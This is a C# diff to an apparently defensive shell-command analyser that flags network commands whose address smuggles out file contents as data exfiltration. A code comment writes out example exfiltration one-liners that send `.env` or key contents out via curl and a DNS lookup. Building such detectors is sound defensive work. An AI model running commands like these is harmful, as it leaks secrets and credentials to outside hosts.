@@ -49,6 +49,11 @@ internal sealed class FactWriter(Invocation on, ICommandSink sink)
             return;
         }
 
+        if (on.HelpAsked)
+        {
+            return;
+        }
+
         _words.Clear();
         if (effect.Object is { } what)
         {
@@ -143,6 +148,12 @@ internal sealed class FactWriter(Invocation on, ICommandSink sink)
             Remote();
         }
 
+        if (word is not null && effect.StartsWith("net.", StringComparison.Ordinal))
+        {
+            Hosts.Describe(text, _attributes);
+            InAddress(effect, word);
+        }
+
         bool partial = word is { IsExact: false } || (on.UnknownOption is not null && !effect.EndsWith("read", StringComparison.Ordinal));
         sink.Fact(new Fact
         {
@@ -153,6 +164,30 @@ internal sealed class FactWriter(Invocation on, ICommandSink sink)
             Span = word is null || word.Span.Length == 0 ? on.Command.Span : word.Span,
             Unknown = !partial ? null : word?.Unknown ?? $"`{on.UnknownOption}` is not an option of `{on.Name}` that is known",
         });
+    }
+
+    // `curl https://host/$(cat .env)`, `dig $(cat key).host`: what is asked for carries what is sent.
+    private void InAddress(string effect, ShellWord word)
+    {
+        if (word.Source is null || effect is "net.send")
+        {
+            return;
+        }
+
+        var from = new List<string> { "in-address" };
+        Provenance.Output(word.Source, from);
+        if (from.Count > 1)
+        {
+            sink.Fact(new Fact
+            {
+                Effect = "net.send",
+                Object = word.Text,
+                Attributes = from,
+                Certainty = Certainty.Partial,
+                Span = word.Span,
+                Unknown = word.Unknown,
+            });
+        }
     }
 
     private void Remote()
